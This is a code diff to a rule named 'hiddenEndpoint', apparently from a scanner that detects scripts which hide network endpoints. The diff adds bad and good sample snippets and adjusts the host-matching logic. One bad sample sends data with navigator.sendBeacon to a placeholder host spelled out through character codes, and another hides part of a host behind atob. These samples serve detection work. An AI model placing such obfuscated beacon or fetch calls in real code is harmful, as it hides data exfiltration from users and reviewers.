@@ -80,6 +80,7 @@ export const hiddenEndpoint = defineRule({
       backgroundExample(
         'navigator.sendBeacon(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101), d);',
       ),
+      backgroundExample('fetch("https://" + atob("c2VjcmV0") + "-stg.shop.example/v1/quotes");'),
     ],
     good: [
       backgroundExample(
@@ -91,6 +92,7 @@ export const hiddenEndpoint = defineRule({
         'const endings = { uk: ".co.uk", us: ".com" }; fetch(`https://api.example${endings[region] || ".com"}/now`);',
       ),
       backgroundExample('const site = "example.com"; fetch("https://status." + site + "/now");'),
+      backgroundExample('fetch(`https://api${location.hash ? "-stg" : "-dev"}.shop.example/v1/quotes`);'),
     ],
   },
 });
@@ -116,8 +118,8 @@ function listsOfCodes(script: ScriptFacts): { value: number; address: string }[]
 }
 
 /**
- * Whether a host stands in the script, in one piece, as what stands before whose it is (`'https://status.' + site`), or
- * without its last part at a text's end: `'https://api.shop' + ending`, not `'https://api.shop.example/'`.
+ * Whether a host stands in the script, in one piece, as whose it is with the words before (`'https://status.' + site`,
+ * `https://api${isTest ? '-stg' : ''}.shop.example`), or without its last part at a text's end: `'https://api.shop' + ending`, not `'https://api.shop.example/'`.
  */
 function standsPlain(script: ScriptFacts, host: string): boolean {
   const has = (part: string): boolean => script.strings.some((text) => text.toLowerCase().includes(part));
@@ -126,7 +128,7 @@ function standsPlain(script: ScriptFacts, host: string): boolean {
   return (
     has(host) ||
     script.strings.some((text) => text.toLowerCase().endsWith(`//${name}`)) ||
-    (host.length > owner.length && has(`//${host.slice(0, -owner.length)}`) && has(owner))
+    (host.length > owner.length && has(owner) && host.slice(0, -owner.length).split(/[.-]/).every(has))
   );
 }
 
